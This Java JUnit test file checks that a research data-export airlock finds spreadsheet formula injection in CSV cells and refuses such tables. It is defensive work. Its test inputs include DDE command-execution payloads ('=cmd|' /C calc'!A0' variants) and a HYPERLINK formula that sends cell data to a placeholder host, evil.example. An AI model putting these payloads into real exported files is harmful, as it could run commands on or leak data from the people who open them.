package jp.enclave.server.airlock;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.List;
import jp.enclave.server.Fixtures;
import jp.enclave.server.access.Refusal;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** CSV formula injection tried as a researcher would against the reviewer who opens the table: refused at the airlock. */
class FormulaCellsTest {
  @ParameterizedTest
  @ValueSource(strings = {"=cmd|' /C calc'!A0", "=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
      "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")", "\t=1+1", "\r=1+1", "=", "-=1", "+A1", "-1+2", "@"})
  void formulasAreFound(String cell) {
    assertThat(FormulaCells.formula(cell)).as(cell).isTrue();
  }

  @ParameterizedTest
  @ValueSource(strings = {"-3.2", "+1e-5", "-0.5", "12", "-1,234.5", "+.5", "-12%", "-", "+", "", "F", "a=b", "3-2",
      "男性", "−3 (unicode minus)"})
  void dataPasses(String cell) {
    assertThat(FormulaCells.formula(cell)).as(cell).isFalse();
  }

  @Test
  void cellsAreFoundInQuotedFieldsAndNamedByRowAndColumn() {
    byte[] csv = "sex,persons\nF,120\n\"=cmd|' /C calc'!A0\",3\nM,\"@SUM(A1)\"\n".getBytes(StandardCharsets.UTF_8);
    assertThat(FormulaCells.problems("content", csv)).containsExactly(
        "content: row 3, column 1 starts with '=', which a spreadsheet runs as a formula; export the value without it",
        "content: row 4, column 2 starts with '@', which a spreadsheet runs as a formula; export the value without it");
  }

  @Test
  void aTableWithFormulasIsRefusedWhenAddedAndAFigureTableToo() {
    Fixtures f = new Fixtures().eligible();
    InMemoryAirlock store = new InMemoryAirlock();
    AirlockService airlock = f.airlock(store);
    String id = airlock.create(Fixtures.RESEARCHER, "p-dm", "formulas").request().id();
    byte[] bad = "sex,persons\n=1+1,120\n".getBytes(StandardCharsets.UTF_8);
    byte[] png = {(byte) 0x89, 'P', 'N', 'G'};
    for (AirlockService.ItemInput in : List.of(
        new AirlockService.ItemInput("t1", "table", "by_sex.CSV", bad, null, null, null, List.of("q-1")),
        new AirlockService.ItemInput("f1", "figure", "fig.png", png, "frequency", "fig.csv", bad, List.of("q-1")))) {
      try {
        airlock.addItem(Fixtures.RESEARCHER, id, null, in);
        throw new AssertionError("accepted " + in.id());
      } catch (Refusal r) {
        assertThat(r.code()).isEqualTo("invalid-export-item");
        assertThat(r.details()).singleElement().asString().contains("row 2, column 1 starts with '='");
      }
    }
    // negative estimates in a magnitude table are data
    airlock.addItem(Fixtures.RESEARCHER, id, null, new AirlockService.ItemInput("t2", "table", "coef.csv",
        "term,estimate\nage,-0.031\nsex,+1.2e-3\n".getBytes(StandardCharsets.UTF_8), "magnitude", null, null, List.of("q-1")));
    assertThat(store.rows.get(id).items()).extracting(ExportItem::id).containsExactly("t2");
  }
}
